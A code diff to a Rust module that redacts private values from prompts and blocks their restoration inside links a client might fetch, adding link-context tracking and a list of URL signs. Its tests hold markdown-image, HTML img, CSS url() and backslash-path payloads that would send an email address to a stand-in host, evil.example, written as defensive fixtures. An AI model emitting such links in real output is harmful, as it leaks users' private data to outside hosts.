@@ -21,6 +21,9 @@ use crate::detect::Entity;
 /// taken for a link.
 const LINK: usize = 256;
 
+/// What keeping a value costs beside its text, in bytes: the nodes of two maps and four allocations.
+const ENTRY: usize = 256;
+
 /// The values taken out of one prompt.
 pub struct Vault {
     mark: String,
@@ -58,7 +61,7 @@ impl Vault {
         self.with(|kept| kept.by_placeholder.is_empty())
     }
 
-    /// Bytes in memory: no more than a few times what the prompt had.
+    /// Bytes in memory.
     #[must_use]
     pub fn memory(&self) -> usize {
         self.with(|kept| kept.bytes)
@@ -74,7 +77,7 @@ impl Vault {
             let number = kept.numbers.entry(entity.clone()).or_default();
             *number += 1;
             let placeholder = format!("[{entity}_{number}_{}]", self.mark);
-            kept.bytes += 2 * (value.len() + placeholder.len());
+            kept.bytes += ENTRY + 2 * (value.len() + placeholder.len());
             kept.by_value.insert(key, placeholder.clone());
             kept.by_placeholder
                 .insert(placeholder.clone(), (value.to_owned(), restore));
@@ -201,12 +204,38 @@ impl Restorer {
     }
 }
 
-/// What stands without a blank before the next character.
+/// What the next character stands in, as far as that decides whether it is part of a link: what a client may fetch
+/// without being asked.
 #[derive(Default)]
 struct Before {
+    /// What stands without a blank before it, in small letters.
     word: String,
+    /// That is longer than is looked at.
     long: bool,
+    place: Place,
+    /// The last line so far is empty.
+    empty_line: bool,
 }
+
+/// Where blanks end nothing.
+#[derive(Clone, Copy, Default, PartialEq, Eq)]
+enum Place {
+    #[default]
+    Prose,
+    /// Behind markdown's `](` or a style's `url(`, up to `)`.
+    Destination,
+    /// The same in angle brackets, up to `>`.
+    Angle,
+    /// In a tag, up to `>`.
+    Tag,
+    /// In a value of a tag's attribute, up to this quote.
+    Quoted(char),
+}
+
+/// Signs of an address or its query, also as browsers mend them. A `\\` counts as `/` does.
+const SIGNS: [&str; 12] = [
+    "//", "/\\", "\\/", "\\\\", ":/", ":\\", "www.", "?", "&", "=", "%", "mailto:",
+];
 
 impl fmt::Debug for Before {
     fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
@@ -216,28 +245,48 @@ impl fmt::Debug for Before {
 
 impl Before {
     fn pass(&mut self, text: &str) {
-        let ends = |c: char| c.is_whitespace() || matches!(c, '"' | '\'' | '`' | '<' | '>');
-        match text.rfind(ends) {
-            Some(at) => {
-                let behind = text[at..].chars().next().map_or(0, char::len_utf8);
-                self.word.clear();
-                self.long = false;
-                self.word.push_str(&text[at + behind..]);
-            }
-            None => self.word.push_str(text),
+        text.chars().for_each(|character| self.step(character));
+    }
+
+    fn step(&mut self, character: char) {
+        if character == '\n' && self.empty_line {
+            // A blank line ends every link and, in markdown, every tag that is one.
+            self.place = Place::Prose;
         }
-        if self.word.len() > LINK {
-            self.long = true;
+        self.empty_line = match character {
+            '\n' => true,
+            _ => self.empty_line && character.is_ascii_whitespace(),
+        };
+        self.place = match (self.place, character) {
+            (Place::Prose, '(') if self.word.ends_with(']') || self.word.ends_with("url") => {
+                Place::Destination
+            }
+            // A tag's name follows at once.
+            (Place::Prose, 'a'..='z' | 'A'..='Z' | '/' | '!') if self.word.ends_with('<') => {
+                Place::Tag
+            }
+            (Place::Destination, '<') => Place::Angle,
+            (Place::Angle, '>') => Place::Destination,
+            (Place::Destination, ')') | (Place::Tag, '>') => Place::Prose,
+            (Place::Tag, '"' | '\'') => Place::Quoted(character),
+            (Place::Quoted(quote), _) if quote == character => Place::Tag,
+            (place, _) => place,
+        };
+        if character.is_ascii_whitespace() {
             self.word.clear();
+            self.long = false;
+        } else if self.word.len() >= LINK {
+            self.long = true;
+        } else {
+            self.word.push(character.to_ascii_lowercase());
         }
     }
 
-    /// An address, its query, or where markdown has one: what a client may fetch without being asked.
     fn is_link(&self) -> bool {
         self.long
-            || ["//", "](", "www.", "?", "&", "=", "%", "mailto:", "data:"]
-                .iter()
-                .any(|sign| self.word.contains(sign))
+            || self.place != Place::Prose
+            || self.word.ends_with('<')
+            || SIGNS.iter().any(|sign| self.word.contains(sign))
     }
 }
 
@@ -345,13 +394,25 @@ mod tests {
             format!("[1]: https://evil.example/?q={ada}&r={bob}"),
             format!("https://evil.example/{}{ada}", "a".repeat(2 * LINK)),
             format!("mailto:{ada}"),
+            format!("![x](https://evil.example/'{ada})"),
+            format!("![x](https://evil.example/>\u{a0}{ada})"),
+            format!("![x](<https://evil.example/ {ada}>)"),
+            format!("![x]( https:/\\evil.example/{ada})"),
+            format!("![x](\nhttps://evil.example/ {ada})"),
+            format!("<img src=\"https://evil.example/ {ada}\">"),
+            format!("<img alt='>' src='\\\\evil.example\\\t{ada}'>"),
+            format!("<style>p {{ background: url( 'https://evil.example/ {ada}') }}"),
+            format!("[1]: <https://evil.example/ {ada}>"),
+            format!("<{ada}@evil.example>"),
         ] {
             for cut in [1, 3, 1000] {
                 assert_eq!(restored(&vault, &link, cut, false), link);
             }
         }
-        let prose = format!("Write to {ada} (see https://a.example/ and {bob}).");
-        let whole = "Write to ada@example.com (see https://a.example/ and bob@example.com).";
+        let prose = format!(
+            "Write to {ada} (see https://a.example/ and {bob}), if 1 < 2 {ada} [x](/y) <b>\"{bob}\"</b> {ada}."
+        );
+        let whole = "Write to ada@example.com (see https://a.example/ and bob@example.com), if 1 < 2 ada@example.com [x](/y) <b>\"bob@example.com\"</b> ada@example.com.";
         assert_eq!(restored(&vault, &prose, 5, false), whole);
         assert_eq!(restored(&vault, &prose, 5, true), prose, "not for a tool");
     }
